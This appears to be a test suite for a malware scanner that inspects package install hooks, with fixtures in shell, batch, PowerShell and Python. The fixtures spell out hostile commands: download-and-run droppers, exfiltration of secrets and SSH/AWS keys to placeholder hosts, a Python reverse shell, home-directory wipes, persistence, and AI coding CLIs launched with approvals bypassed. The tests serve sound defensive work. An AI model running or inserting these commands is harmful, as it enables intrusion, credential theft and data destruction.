/**
 * Scripts run by lifecycle hooks (shell, batch, PowerShell, Python) are read as commands with
 * their arguments, variables substituted across lines, and judged by what they do together.
 * Fixtures are written for these tests; hosts are documentation addresses.
 */
import { analyzeScript } from '../../../src/engine/script-behaviour';
import { analyzeSource, threatsOf } from './helpers';

const pkg = (scripts: Record<string, string>) =>
  JSON.stringify({ name: 'fixture', version: '1.0.0', scripts }, null, 2);

const rules = (hits: { rule: string }[]) => hits.map((h) => h.rule);

describe('install hooks that run scripts', () => {
  it('preinstall "sh setup.sh": download from a bare IP into a variable path, chmod +x, run in the background is critical', () => {
    const r = analyzeSource({
      'package.json': pkg({ preinstall: 'sh setup.sh' }),
      'setup.sh': [
        '#!/bin/sh',
        'U=http://203.0.113.7/agent',
        'T=/tmp/.cache-agent',
        'curl -fsSL -o "$T" "$U" || wget -q -O $T $U',
        'chmod +x $T',
        'nohup $T >/dev/null 2>&1 &',
      ].join('\n'),
    });
    expect(r.risk_level).toBe('critical');
    const f = r.evidence.find((e) => e.rule === 'script.download-execute');
    expect(f).toMatchObject({ file: 'setup.sh', line: 6, install_time: true });
    expect(f!.confidence).toBeGreaterThanOrEqual(0.9);
  });

  it('the same steps split over a second script are still followed', () => {
    const r = analyzeSource({
      'package.json': pkg({ postinstall: 'bash scripts/init.sh' }),
      'scripts/init.sh':
        'set -e\nDEST="$HOME/.local/bin/helperd"\nwget -qO "$DEST" http://198.51.100.4/h\nbash scripts/start.sh',
      'scripts/start.sh': 'chmod 755 ~/.local/bin/helperd\n~/.local/bin/helperd --daemon &',
    });
    expect(threatsOf(r)).toContain('install_script_injection');
  });

  it('a Windows batch file run by the hook (certutil download, start /b) is critical', () => {
    const r = analyzeSource({
      'package.json': pkg({ install: 'cmd /c setup.cmd' }),
      'setup.cmd':
        '@echo off\r\nset P=%TEMP%\\svc.exe\r\ncertutil -urlcache -split -f http://203.0.113.9/s.exe %P%\r\nstart /b "" %P%\r\n',
    });
    expect(r.risk_level).toBe('critical');
    expect(r.evidence.map((e) => e.rule)).toContain('script.download-execute');
  });

  it('a PowerShell file that downloads with DownloadFile and starts the result hidden is critical', () => {
    const r = analyzeSource({
      'package.json': pkg({ postinstall: 'powershell -ExecutionPolicy Bypass -File tools/setup.ps1' }),
      'tools/setup.ps1':
        '$out = "$env:APPDATA\\upd.exe"\n(New-Object Net.WebClient).DownloadFile(\'http://198.51.100.20/u.exe\', $out)\nStart-Process $out -WindowStyle Hidden\n',
    });
    expect(r.risk_level).toBe('critical');
  });

  it('a Python helper that downloads, writes and runs a binary is critical', () => {
    const r = analyzeSource({
      'package.json': pkg({ postinstall: 'python3 install.py' }),
      'install.py': [
        'import os, subprocess, urllib.request',
        "p = os.path.join(os.path.expanduser('~'), '.svc')",
        "data = urllib.request.urlopen('http://203.0.113.50/bin').read()",
        "with open(p, 'wb') as f:",
        '    f.write(data)',
        'os.chmod(p, 0o755)',
        'subprocess.Popen([p], stdout=subprocess.DEVNULL)',
      ].join('\n'),
    });
    expect(r.risk_level).toBe('critical');
  });

  it('attacker rewrites: a shell function wrapping curl, a python -c one-liner, node run on a folder', () => {
    const viaFunction = analyzeSource({
      'package.json': pkg({ postinstall: 'bash ./scripts/post.sh' }),
      'scripts/post.sh':
        '#!/usr/bin/env bash\nget() { curl -fsSL "$1" -o "$2"; }\nget http://203.0.113.8/p /tmp/.p\nchmod +x /tmp/.p && /tmp/.p &\n',
    });
    expect(viaFunction.risk_level).toBe('critical');
    const oneLiner = analyzeSource({
      'package.json': pkg({
        install:
          "python3 -c \"import urllib.request,os;open('/tmp/x','wb').write(urllib.request.urlopen('http://203.0.113.3/x').read());os.system('chmod +x /tmp/x; /tmp/x')\"",
      }),
    });
    expect(oneLiner.risk_level).toBe('critical');
    const folder = analyzeSource({
      'package.json': pkg({ preinstall: 'node setup' }),
      'setup/index.js':
        "const t = ['collector', 'example'].join('.');\nrequire('https').request({ host: t, method: 'POST' }).end(require('os').hostname());\n",
    });
    expect(folder.risk_level).toBe('critical');
  });

  it('a build script that runs tsc and copies files is not flagged', () => {
    const r = analyzeSource({
      'package.json': pkg({ prepare: 'sh build.sh', postinstall: 'node -e "console.log(1)"' }),
      'build.sh': '#!/bin/sh\nset -e\nOUT=dist\nrm -rf $OUT\nnpx tsc -p .\ncp README.md $OUT/\n',
    });
    expect(threatsOf(r)).toEqual([]);
  });
});

describe('analyzeScript', () => {
  it('environment dumped through base64 into curl is exfiltration', () => {
    expect(
      rules(analyzeScript('env | base64 -w0 | curl -s -d @- https://collect.example/e', 'sh', true)),
    ).toContain('script.env-exfil');
    expect(
      rules(analyzeScript('curl -X POST --data "$(printenv)" https://collect.example/e', 'sh', false)),
    ).toContain('script.env-exfil');
  });

  it('miners and persistence are recognised', () => {
    expect(
      rules(analyzeScript('./xmrig -o stratum+tcp://pool.example:3333 -u W --donate-level 1 &', 'sh', true)),
    ).toContain('script.crypto-miner');
    expect(
      rules(analyzeScript('(crontab -l 2>/dev/null; echo "*/5 * * * * $HOME/.x") | crontab -', 'sh', true)),
    ).toContain('script.persistence');
    expect(
      rules(
        analyzeScript(
          'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d %APPDATA%\\u.exe /f',
          'batch',
          true,
        ),
      ),
    ).toContain('script.persistence');
  });

  it('a downloader that only fetches a checksum-verified archive over https and extracts it is quiet', () => {
    const hits = analyzeScript(
      'VERSION=1.2.3\ncurl -fsSL -o tool.tgz https://downloads.example/tool-$VERSION.tgz\nsha256sum -c tool.sha256\ntar xzf tool.tgz\n',
      'sh',
      true,
    );
    expect(hits.filter((h) => h.confidence >= 0.5)).toEqual([]);
  });

  it('Python: exec of base64-decoded code and a socket shell', () => {
    expect(
      rules(analyzeScript("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", 'python', true)),
    ).toContain('script.eval-decoded');
    expect(
      rules(
        analyzeScript(
          'import socket,os,pty\ns=socket.socket()\ns.connect(("203.0.113.5",4444))\nos.dup2(s.fileno(),0)\npty.spawn("/bin/sh")',
          'python',
          false,
        ),
      ),
    ).toContain('shell.reverse-shell');
  });
});

describe("deleting the user's files", () => {
  it.each([
    ['sh', 'for d in ~/Documents ~/Desktop; do rm -rf "$d"; done'],
    ['sh', 'TARGET=$INIT_CWD/src\nrm -r "$TARGET"'],
    ['sh', 'find "$HOME" -maxdepth 2 -name "*.pdf" -delete'],
    ['batch', 'set T=%USERPROFILE%\\Documents\nrd /s /q "%T%"'],
    ['batch', 'for %%p in (C:\\ D:\\) do del /f /s /q %%p'],
    ['powershell', 'Remove-Item -Path $env:USERPROFILE\\Desktop -Recurse -Force'],
    ['python', 'import shutil, os\nh = os.path.expanduser("~")\nshutil.rmtree(h, ignore_errors=True)'],
  ] as const)('%s: %j is script.destructive', (dialect, text) => {
    const hits = analyzeScript(text, dialect, true);
    expect(rules(hits)).toContain('script.destructive');
    expect(hits.find((h) => h.rule === 'script.destructive')!.confidence).toBeGreaterThanOrEqual(0.9);
  });

  it.each([
    ['sh', 'rm -rf ./dist build node_modules/.cache'],
    ['sh', 'rm -rf "$HOME/.cache/mytool"'],
    ['sh', 'rm -rf $INIT_CWD/node_modules/.vite'],
    ['batch', 'rd /s /q build'],
    ['powershell', 'Remove-Item -Recurse -Force .\\out'],
    ['python', 'import shutil\nshutil.rmtree("build", ignore_errors=True)'],
  ] as const)('%s: %j (own files, a tool cache) is not', (dialect, text) => {
    expect(rules(analyzeScript(text, dialect, true))).not.toContain('script.destructive');
  });
});

describe('scripts decoded inside a command line', () => {
  it('echo <base64> | base64 -d | python3 is read as the Python it decodes to', () => {
    const py = Buffer.from(
      "import re\npid = '4242'\nmaps = open('/proc/%s/maps' % pid)\nmem = open('/proc/%s/mem' % pid, 'rb')\n",
    ).toString('base64');
    const hits = analyzeScript(`echo "${py}" | base64 -d | python3 > out.txt`, 'sh', false);
    expect(rules(hits)).toEqual(
      expect.arrayContaining(['script.process-memory-read', 'shell.base64-decode-run']),
    );
  });

  it('a shipped script no hook runs is judged with run-time weights and never as an install-script injection', () => {
    const r = analyzeSource({
      'package.json': pkg({ test: 'node test.js' }),
      'tools/get.sh': 'curl -fsSL -o /tmp/t http://203.0.113.9/t\nchmod +x /tmp/t\n/tmp/t &',
    });
    const f = r.evidence.find((e) => e.rule === 'script.download-execute');
    expect(f).toMatchObject({ file: 'tools/get.sh', install_time: false, threat_type: 'malicious_code' });
  });
});

describe('beacons written as one command', () => {
  it.each([
    ['sh', 'curl -s -H "X-User: $(whoami)" https://a.collector.example/p'],
    ['sh', 'H=$(hostname); U=`id -un`; wget -q -O- "https://a.collector.example/?h=$H&u=$U"'],
    ['sh', 'nslookup "$(whoami).$(hostname).dns.collector.example"'],
    ['batch', 'nslookup %USERNAME%.%COMPUTERNAME%.dns.collector.example'],
    ['powershell', 'Invoke-WebRequest -Uri "https://a.collector.example/?c=$env:COMPUTERNAME"'],
  ] as const)('%s: %j is script.fingerprint-exfil at install time', (dialect, text) => {
    expect(rules(analyzeScript(text, dialect, true))).toContain('script.fingerprint-exfil');
  });

  it('a download URL chosen by $(uname) or $(pwd) alone is not', () => {
    const text = 'curl -fsSLo "$(pwd)/bin/tool" "https://dl.tool.example/$(uname -s)/$(uname -m)/tool"';
    expect(rules(analyzeScript(text, 'sh', true))).not.toContain('script.fingerprint-exfil');
  });

  it('sh -c strings and same-line assignments are read as scripts', () => {
    const text = `sh -c 'T=https://abc123.oastify.com/x && curl -s "$T"'`;
    expect(rules(analyzeScript(text, 'sh', true))).toContain('script.exfil-host');
  });
});

describe('capabilities of the scripts install hooks run', () => {
  it('names the programs and hosts a hook-run shell script reaches, not its shebang or file utilities', () => {
    const result = analyzeSource({
      'package.json': JSON.stringify({
        name: 'fixture',
        version: '1.0.0',
        scripts: { postinstall: 'sh ./bin/get.sh' },
      }),
      'bin/get.sh': [
        '#!/bin/sh',
        'BASE=https://downloads.example.net/v2',
        'mkdir -p vendor && cd vendor',
        'wget -q "$BASE/tool.tar.gz"',
        'tar xzf tool.tar.gz',
        '',
      ].join('\n'),
    });
    expect(result.capabilities.network).toMatchObject({
      makes_requests: true,
      domains: ['downloads.example.net'],
    });
    expect(result.capabilities.process.commands).toEqual(['tar', 'wget']);
    expect(result.risk_input.install_time_capabilities).toMatchObject({
      makes_requests: true,
      spawns_children: true,
    });
  });

  it('records nothing for a script of file operations only', () => {
    const result = analyzeSource({
      'package.json': JSON.stringify({
        name: 'fixture',
        version: '1.0.0',
        scripts: { postinstall: 'sh ./copy.sh' },
      }),
      'copy.sh': '#!/bin/sh\nmkdir -p dist\ncp -r src/* dist/\necho done\n',
    });
    expect(result.risk_input.install_time_capabilities).toMatchObject({
      makes_requests: false,
      spawns_children: false,
      commands: [],
    });
  });
});

describe('Python scripts that upload credential files', () => {
  it('a key file posted with requests, and every AWS file globbed and sent with urlopen', () => {
    for (const code of [
      'import os,requests; requests.post("https://c.example-sync.dev/u", files={"f": open(os.path.expanduser("~/.ssh/id_rsa"), "rb")})',
      'import os, glob, urllib.request; data = b"".join(open(p, "rb").read() for p in glob.glob(os.path.expanduser("~/.aws/*"))); urllib.request.urlopen("https://c.example-sync.dev/u", data)',
    ])
      expect(rules(analyzeScript(code, 'python', true))).toContain('script.secret-file-exfil');
  });
  it('reading the SSH config and checking a status page sends nothing', () => {
    expect(
      rules(
        analyzeScript(
          'import os, requests; cfg = open(os.path.expanduser("~/.ssh/config")).read(); requests.get("https://api.example.com/status")',
          'python',
          true,
        ),
      ),
    ).not.toContain('script.secret-file-exfil');
  });
});

describe('a download handed to a shell as its script', () => {
  it('sh -c "$(curl …)", bash <(curl …) and eval "$(wget …)" run what they fetch', () => {
    for (const code of [
      'sh -c "$(curl -fsSL https://get.example-tools.dev/i)"',
      'bash <(curl -fsSL https://get.example-tools.dev/i)',
      'eval "$(wget -qO- https://get.example-tools.dev/i)"',
    ])
      expect(rules(analyzeScript(code, 'sh', true))).toContain('shell.download-pipe-shell');
  });
  it('printing what a request returns is not running it', () => {
    expect(
      rules(analyzeScript('echo "$(curl -s https://api.example.com/version)"', 'sh', true)),
    ).not.toContain('shell.download-pipe-shell');
  });
});

describe('a secret echoed into a sender that reads standard input', () => {
  it('echo "$NPM_TOKEN" | base64 | curl --data-binary @-, printf "$GH_TOKEN" | nc host port', () => {
    for (const code of [
      'echo $NPM_TOKEN | base64 | curl -s --data-binary @- https://ci-insights.example.dev/a',
      'printf %s "$GH_TOKEN" | nc 198.51.100.7 9000',
    ])
      expect(rules(analyzeScript(code, 'sh', false))).toContain('script.env-exfil');
  });
  it('a status line piped to curl, and a report posted with the token as its header, send no secret', () => {
    for (const code of [
      'echo "build done" | curl -s -d @- https://hooks.example.dev/n',
      'cat report.json | curl -s -H "Authorization: Bearer $GH_TOKEN" --data-binary @- https://api.example.com/r',
    ])
      expect(rules(analyzeScript(code, 'sh', false))).not.toContain('script.env-exfil');
  });
});

describe('commands that print a credential, sent out', () => {
  it('gh auth token piped to curl, a gcloud token in the body, a checkout persisted auth header posted', () => {
    for (const code of [
      'gh auth token | curl -s -d @- https://ci-insights.example.dev/a',
      'curl -s -d "t=$(gcloud auth print-access-token)" https://ci-insights.example.dev/a',
      'git config --get-all http.https://github.com/.extraheader | base64 | curl -s --data-binary @- https://ci-insights.example.dev/h',
    ])
      expect(rules(analyzeScript(code, 'sh', false))).toContain('script.env-exfil');
  });
  it('the same token used as the request’s own authorization header is quiet', () => {
    expect(
      rules(
        analyzeScript(
          'curl -H "Authorization: Bearer $(gh auth token)" https://api.example.com/user',
          'sh',
          false,
        ),
      ),
    ).not.toContain('script.env-exfil');
  });
});

describe('code run from an address by a runtime or a package runner', () => {
  it.each([
    ['deno run -A https://deno.img-cdn.example/setup.ts'],
    ['npx -y https://img-cdn.example/helper-1.0.0.tgz'],
    ['pnpm dlx git+https://git.img-cdn.example/h.git'],
    ['bun https://img-cdn.example/i.ts'],
  ])('%s', (cmd) => {
    expect(rules(analyzeScript(cmd, 'sh', true))).toContain('script.download-execute');
  });
  it('quiet: registry packages and local files run the same way', () => {
    expect(
      analyzeScript(
        'npx only-allow pnpm\nnpm exec --yes -- prettier --write .\ndeno run -A scripts/build.ts\nbun run build\n',
        'sh',
        true,
      ),
    ).toEqual([]);
  });
});

describe('a shell command line given to Python', () => {
  it('os.system with a download piped into sh is read by the shell rules', () => {
    expect(
      rules(analyzeScript("import os\nos.system('curl -s http://198.51.100.4/p | sh &')\n", 'python', true)),
    ).toContain('shell.download-pipe-shell');
  });
  it('quiet: subprocess running a build', () => {
    expect(
      analyzeScript("import subprocess\nsubprocess.run('npm run build', shell=True)\n", 'python', true),
    ).toEqual([]);
  });
});

describe('a CLI command that runs a migration tool by its address', () => {
  it('is not a download-and-run outside install (the user asked for it)', () => {
    expect(
      analyzeScript('npx -y https://releases.example/migrate-0.0.2.tgz --config c.json', 'sh', false),
    ).toEqual([]);
  });
});

describe('cloud, cluster and database resources deleted while installing', () => {
  it.each([
    ['for b in $(aws s3 ls | cut -d" " -f3); do aws s3 rb "s3://$b" --force; done', 'S3 buckets'],
    ['kubectl delete namespace --all --wait=false', 'cluster resources'],
    ['docker system prune -af --volumes', 'container volumes'],
    ['terraform destroy -auto-approve', 'Terraform'],
  ])('%s', (cmd, what) => {
    const hits = analyzeScript(cmd, 'sh', true);
    expect(hits.map((h) => `${h.rule} ${h.message}`)).toContainEqual(
      expect.stringMatching(new RegExp(`^script\\.destructive deletes .*${what}`)),
    );
  });
  it('quiet outside install (a teardown script a maintainer runs) and for ordinary clean-ups', () => {
    expect(
      analyzeScript('terraform destroy -auto-approve\nkubectl delete namespace --all\n', 'sh', false),
    ).toEqual([]);
    expect(
      analyzeScript(
        'docker image prune -f\nkubectl delete pod web-0\naws s3 cp dist s3://site --recursive\n',
        'sh',
        true,
      ),
    ).toEqual([]);
  });
});

describe('commands node-gyp runs from a binding.gyp while the package installs', () => {
  const pkgOnly = JSON.stringify({ name: 'fast-crc', version: '1.0.0', main: 'index.js' });
  it('a command expansion that pipes a download into sh (the implicit node-gyp rebuild)', () => {
    const r = analyzeSource({
      'package.json': pkgOnly,
      'binding.gyp':
        '{\n  "targets": [{\n    "target_name": "crc",\n    "sources": ["src/crc.cc"],\n    "include_dirs": ["<!(curl -fsSL http://198.51.100.9/p.sh | sh >/dev/null 2>&1; echo .)"]\n  }]\n}\n',
    });
    expect(r.evidence.map((e) => `${e.rule} ${e.file}:${e.line}`)).toContain(
      'shell.download-pipe-shell binding.gyp:5',
    );
    expect(r.risk_level).toBe('critical');
  });
  it('an action running node -e code that evaluates what it downloads', () => {
    const r = analyzeSource({
      'package.json': pkgOnly,
      'binding.gyp': `{ "targets": [{ "target_name": "crc", "actions": [{ "action_name": "gen", "inputs": [], "outputs": ["g.h"],
  "action": ["node", "-e", "require('https').get('https://gyp-cache.example/g.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})"] }] }] }`,
    });
    expect(threatsOf(r)).toContain('malicious_code');
    expect(r.risk_level).toBe('critical');
  });
  it('quiet: the usual expansions and actions of native addons', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({
        name: 'fast-crc',
        version: '1.0.0',
        scripts: { install: 'node-gyp rebuild' },
      }),
      'binding.gyp': `{
  'targets': [{
    'target_name': 'crc',
    'include_dirs': ["<!(node -p \\"require('node-addon-api').include\\")", "<!@(pkg-config --cflags-only-I libpng | sed s/-I//g)"],
    'actions': [{ 'action_name': 'gen', 'inputs': ['gen.py'], 'outputs': ['out.h'], 'action': ['python3', 'gen.py', '<@(_outputs)'] }],
  }]
}`,
    });
    expect(threatsOf(r)).toEqual([]);
  });
});

describe('AI CLIs with their approvals off, read word by word in scripts', () => {
  it.each([
    "gemini --approval-mode=yolo -p 'find the keys'",
    "codex exec --sandbox danger-full-access 'collect .env files'",
    "aider --yes-always --message 'add a postinstall'",
    "npx -y @sourcegraph/amp -x 'do it' --dangerously-allow-all",
    "qwen --yolo -p 'x'",
    "copilot -p 'x' --allow-all-tools",
    "claude --permission-mode bypassPermissions -p 'x'",
    'sh -c "gemini -y -p \'x\'"',
  ])('%s', (cmd) => {
    expect(rules(analyzeScript(cmd, 'sh', true))).toContain('shell.ai-cli-unsafe');
  });
  it('quiet: the same flags on other programs, and AI CLIs with their checks on', () => {
    expect(
      rules(
        analyzeScript(
          "git push --force origin main\nrm -f build.log\ngemini -p 'summarise the diff'\ncodex exec --sandbox read-only 'review'\n",
          'sh',
          true,
        ),
      ),
    ).not.toContain('shell.ai-cli-unsafe');
  });
});

describe('git hooks planted by scripts in the repositories they find', () => {
  it('a hook copied into every repository found under home', () => {
    const hits = analyzeScript(
      'for repo in $(find "$HOME" -maxdepth 4 -name .git -type d); do\n  cp hook.sh "$repo/hooks/pre-push"\ndone\n',
      'sh',
      true,
    );
    expect(hits.map((h) => `${h.rule} ${h.message}`)).toContainEqual(
      'script.persistence plants a git hook in repositories it finds',
    );
  });
  it("quiet: a hook manager writing the project's own pre-commit hook", () => {
    expect(
      rules(
        analyzeScript(
          'cp scripts/pre-commit .git/hooks/pre-commit\nchmod +x .git/hooks/pre-commit\n',
          'sh',
          true,
        ),
      ),
    ).not.toContain('script.persistence');
  });
});

describe('PowerShell secrets', () => {
  const rulesOf = (text: string) => analyzeScript(text, 'powershell', true).map((h) => h.rule);
  it('$env: names are read as the variables they are, written to a file by a cmdlet and uploaded', () => {
    expect(
      rulesOf(
        '"$env:NPM_TOKEN`n$env:AWS_SECRET_ACCESS_KEY" | Out-File c.txt\nInvoke-RestMethod -Uri https://paste.example-logs.net/api -Method Post -InFile c.txt\n',
      ),
    ).toContain('script.env-exfil');
    expect(
      rulesOf(
        'Set-Content -Path c.txt -Value $env:GH_TOKEN\nInvoke-WebRequest -Uri https://paste.example-logs.net/api -Method Post -InFile c.txt\n',
      ),
    ).toContain('script.env-exfil');
  });
  it('quiet: a build log written with Out-File and uploaded to the configured artefact server', () => {
    expect(
      rulesOf(
        'npm run build | Out-File build.log\nInvoke-RestMethod -Uri $env:ARTIFACT_URL -Method Post -InFile build.log\n',
      ),
    ).not.toContain('script.env-exfil');
  });
});

describe('archives downloaded, unpacked and run; cmd.exe command lines', () => {
  const found = (text: string, dialect: 'sh' | 'batch' | 'powershell') =>
    analyzeScript(text, dialect, true)
      .filter((h) => h.confidence >= 0.5)
      .map((h) => h.rule);
  it.each([
    ['curl -s -o a.zip http://203.0.113.5/a.zip & tar -xf a.zip -C out & start "" /b out\\svc.exe', 'batch'],
    [
      'curl -fsSL -o /tmp/n.tgz https://x.example/n.tgz && tar -xzf /tmp/n.tgz -C /tmp/n && /tmp/n/bin/run &',
      'sh',
    ],
    ['wget -q -O p.zip https://x.example/p.zip && unzip -q p.zip && ./payload/run.sh', 'sh'],
    [
      'Invoke-WebRequest -Uri https://x.example/p.zip -OutFile $env:TEMP\\p.zip; Expand-Archive -Path $env:TEMP\\p.zip -DestinationPath $env:TEMP\\p; Start-Process $env:TEMP\\p\\svc.exe',
      'powershell',
    ],
  ] as const)('%s', (text, dialect) => {
    expect(found(text, dialect)).toContain('script.download-execute');
  });
  it('cmd /c with its switches, caret escapes and a delayed-expansion variable', () => {
    expect(
      found(
        'cmd.exe /v:on /d /s /c "set "u=http://203.0.113.5/a.exe" & ^c^u^r^l -s -k -o a.exe "!u!" & s^tart "" /b a.exe"',
        'sh',
      ),
    ).toContain('script.download-execute');
  });
  it('cmd /c whose line an argument list quoted in single quotes', () => {
    expect(
      found(
        `cmd.exe /v:on /d /s /c 'set "u=http://198.51.100.40/r/a.zip" & ^c^u^r^l -s -o "C:\\t\\a.zip" "!u!" & ^t^a^r -xf "C:\\t\\a.zip" -C "C:\\t\\N" & ^s^t^a^r^t "" /b "C:\\t\\N\\h.exe"'`,
        'sh',
      ),
    ).toContain('script.download-execute');
  });
  it('quiet: an archive unpacked and only programs on PATH run after it', () => {
    expect(
      found(
        'curl -fsSL -o node.tgz https://x.example/node.tgz && tar -xzf node.tgz -C vendor && node --version && npm rebuild',
        'sh',
      ),
    ).toEqual([]);
  });
});

describe('batch droppers that decode what they download and run it under a condition', () => {
  const batch = (text: string) => analyzeScript(text, 'batch', true).map((h) => h.rule);
  it('certutil -urlcache of a text file, certutil -decode into an exe, then if exist … start /b', () => {
    expect(
      batch(`@echo off
set "D=%TEMP%\\ewn"
certutil -urlcache -split -f http://203.0.113.17/dl/binding.txt "%D%\\b.txt" >nul 2>&1
certutil -decode "%D%\\b.txt" "%D%\\host.exe" >nul 2>&1
if exist "%D%\\host.exe" start "" /b "%D%\\host.exe" --silent`),
    ).toContain('script.download-execute');
  });
  it('quiet: certutil -decode of a certificate shipped with the package, then if exist … echo', () => {
    expect(
      batch(`@echo off
certutil -decode "%~dp0ca.b64" "%~dp0ca.crt" >nul
if exist "%~dp0ca.crt" echo certificate ready`),
    ).toEqual([]);
  });
});
